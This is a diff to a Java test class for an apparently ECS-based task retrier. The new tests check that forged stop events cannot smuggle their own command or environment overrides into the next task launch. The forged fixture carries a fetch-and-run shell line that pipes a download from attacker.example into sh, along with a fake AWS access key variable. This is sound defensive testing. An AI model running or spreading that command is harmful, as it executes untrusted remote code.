@@ -25,6 +25,7 @@ import dev.ecsretrier.json.TestJson;
 import dev.ecsretrier.port.DescribedTask;
 import dev.ecsretrier.port.Notification;
 import dev.ecsretrier.port.ScheduledAttempt;
+import dev.ecsretrier.rule.StoppedTaskPattern;
 import dev.ecsretrier.testutil.FakeAttemptScheduler;
 import dev.ecsretrier.testutil.FakeNotifier;
 import dev.ecsretrier.testutil.FakeTaskDescriber;
@@ -147,7 +148,7 @@ class ClassifierHandlerTest {
         StepResult result = handler.handle(Fixtures.event("app-exit-2.json"));
         assertThat(result).isEqualTo(new StepResult(RUN, 1, taskArn("app-exit-2.json"), Decision.RETRY,
                 "default:retryable-exit-code", "container app exited 2, a retryable exit code", MetadataSource.TAGS,
-                "run-7f3a-2", 60_000L, NOW.plusSeconds(60), false, null));
+                "run-7f3a-2", 60_000L, NOW.plusSeconds(60), false, null, null));
     }
 
     @Test
@@ -328,6 +329,60 @@ class ClassifierHandlerTest {
         assertThat(body.get("note").asText()).isEqualTo(ClassifierHandler.EVENT_FALLBACK_NOTE);
         assertThat(ClassifierHandler.EVENT_FALLBACK_NOTE).contains("no longer describable");
         assertThat(result.metadataSource()).isEqualTo(MetadataSource.EVENT);
+    }
+
+    // Forged stops (acceptTestEvents: anyone who may PutEvents on the bus can send one) -------------
+
+    /** A test event for a task ECS cannot describe, carrying the sender's command and a run's RETRIER_* variables. */
+    private static byte[] forgedStop() {
+        return edited("app-exit-2.json", ev -> {
+            ev.put("source", StoppedTaskPattern.TEST_SOURCE);
+            ObjectNode override = (ObjectNode) ev.at("/detail/overrides/containerOverrides/0");
+            override.putArray("command").add("sh").add("-c").add("curl -s https://attacker.example/x | sh");
+            ((com.fasterxml.jackson.databind.node.ArrayNode) override.get("environment")).addObject()
+                    .put("name", "AWS_ACCESS_KEY_ID").put("value", "forged");
+        });
+    }
+
+    @Test
+    void forgedStopOfAnUndescribableTask_launchesTheNextAttemptWithoutTheSendersOverrides_andSaysSo() {
+        StepResult step = handler.handle(forgedStop());
+
+        assertThat(step.decision()).isEqualTo(Decision.RETRY);
+        assertThat(step.note()).contains("no container overrides").contains(StoppedTaskPattern.TEST_SOURCE);
+        String nextRequest = scheduler.only().input();
+        assertThat(nextRequest).doesNotContain("attacker.example").doesNotContain("AWS_ACCESS_KEY_ID");
+        assertThat(new StartRequestReader("app", 3).read(nextRequest.getBytes()).containerOverrides()).isEmpty();
+
+        // End to end: the schedule's input is what the starter launches.
+        FakeTaskLauncher ecs = new FakeTaskLauncher();
+        new StarterHandler(TestEnvironment.sampleConfig(), ecs, new FakeAttemptScheduler(), new FakeNotifier(), clock,
+                new SplittableRandom(1), line -> { }).start(nextRequest.getBytes(), TestEnvironment.STARTER_ARN);
+        assertThat(ecs.only().clientToken()).isEqualTo("run-7f3a-2");
+        assertThat(ecs.only().command()).isNull();
+        assertThat(ecs.only().environment()).extracting(EnvironmentVariable::name)
+                .containsExactly("RETRIER_RUN_ID", "RETRIER_ATTEMPT", "RETRIER_MAX_ATTEMPTS");
+    }
+
+    @Test
+    void testEventOfADescribableTask_takesTheOverridesFromDescribeTasks_notFromTheEvent() {
+        taskIsDescribable("app-exit-2.json", 1, List.of());
+
+        StepResult step = handler.handle(forgedStop());
+
+        StartRequest next = new StartRequestReader("app", 3).read(scheduler.only().input().getBytes());
+        assertThat(next.containerOverrides()).isEqualTo(USER_OVERRIDES);
+        assertThat(step.note()).contains("test event");
+    }
+
+    @Test
+    void realEcsStopOfAnUndescribableTask_carriesNoOverridesEither() {
+        StepResult step = handler.handle(edited("app-exit-2.json", ev -> ((ObjectNode) ev.at(
+                "/detail/overrides/containerOverrides/0")).putArray("command").add("python").add("job.py")));
+
+        assertThat(new StartRequestReader("app", 3).read(scheduler.only().input().getBytes()).containerOverrides())
+                .isEmpty();
+        assertThat(step.note()).contains("no container overrides");
     }
 
     @Test
